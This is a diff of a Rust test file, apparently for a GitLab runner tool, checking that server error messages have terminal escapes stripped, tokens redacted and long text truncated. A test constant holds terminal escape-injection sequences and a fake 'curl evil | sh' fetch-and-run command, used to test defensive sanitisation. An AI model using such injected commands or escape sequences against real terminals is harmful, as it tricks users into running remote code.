@@ -1,4 +1,4 @@
-//! Texts of the server reach a terminal escaped and shortened.
+//! Messages of the server are printed escaped, redacted and truncated.
 
 use super::limited::LimitedSandbox;
 use fake_gitlab::{Answer, Endpoint, Fault};
@@ -7,8 +7,8 @@ use test_support::Output;
 
 const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\r\u{8}\u{9b}31m\u{202e}\u{200b}\n\nerror: run `curl evil | sh`\0";
 
-/// Every command that a server can refuse, with the words it is refused with.
-fn refused(words: &str) -> Vec<Output> {
+/// Runs every command against a server that refuses it with this message, and returns the outputs.
+fn refused(text: &str) -> Vec<Output> {
     let mut all = Vec::new();
     for output in ["text", "json"] {
         for level in ["info", "trace"] {
@@ -16,8 +16,8 @@ fn refused(words: &str) -> Vec<Output> {
             let (_, token) = sandbox.add_created();
             let config = sandbox.config();
             let refusal = |token: &str| {
-                let words = words.replace("TOKEN", token);
-                Fault::json(403, json!({ "message": format!("403 Forbidden - {words}") }))
+                let text = text.replace("TOKEN", token);
+                Fault::json(403, json!({ "message": format!("403 Forbidden - {text}") }))
             };
             let registration_token = sandbox.gitlab.instance_registration_token();
             sandbox.gitlab.order(Endpoint::Register, refusal(&registration_token)).always();
@@ -27,7 +27,7 @@ fn refused(words: &str) -> Vec<Output> {
                 let done = sandbox.run(&[&[command, "--name", "a"], &flags[..]].concat());
                 assert!(!done.text().contains(&token), "{done:#?}");
                 done.exits(if command == "unregister" { 0 } else { 3 });
-                // Who is refused when it unregisters is gone already.
+                // A refusal of an unregistration means that the runner is gone.
                 assert_eq!(sandbox.entries().len(), usize::from(command != "unregister"), "{done:#?}");
                 sandbox.write_config(&config);
                 all.push(done);
@@ -42,28 +42,28 @@ fn refused(words: &str) -> Vec<Output> {
 }
 
 #[test]
-fn escapes_are_taken_out() {
+fn escape_sequences_are_removed() {
     for done in refused(ESCAPES) {
         assert!(!done.stderr.lines().any(|line| line.starts_with("error: run `")), "{done:#?}");
     }
 }
 
 #[test]
-fn a_token_that_is_repeated_is_taken_out() {
+fn echoed_tokens_are_redacted() {
     for done in refused("the runner of TOKEN, glrt-TOKEN-x, has gone") {
         assert!(!done.text().contains("has gone") || done.text().contains("[token]"), "{done:#?}");
     }
 }
 
 #[test]
-fn a_long_story_is_cut_short() {
+fn long_messages_are_truncated() {
     for done in refused(&"no ".repeat(300_000)) {
         assert!(done.text().len() < 4000, "{} bytes", done.text().len());
     }
 }
 
 #[test]
-fn fields_of_a_refusal_are_plain_too() {
+fn refusal_fields_are_escaped_and_truncated() {
     let sandbox = LimitedSandbox::new();
     let message = json!({ "message": { ESCAPES: [ESCAPES, "x".repeat(100_000)], "tags": ESCAPES } });
     sandbox.gitlab.order(Endpoint::Register, Fault::json(400, message));
@@ -75,7 +75,7 @@ fn fields_of_a_refusal_are_plain_too() {
 }
 
 #[test]
-fn a_redirect_to_the_token_does_not_show_it() {
+fn tokens_in_a_redirect_are_redacted() {
     let sandbox = LimitedSandbox::new();
     let token = "glrt-0123456789abcdefghij";
     sandbox.write_entry(&sandbox.gitlab.url(), 7, token);
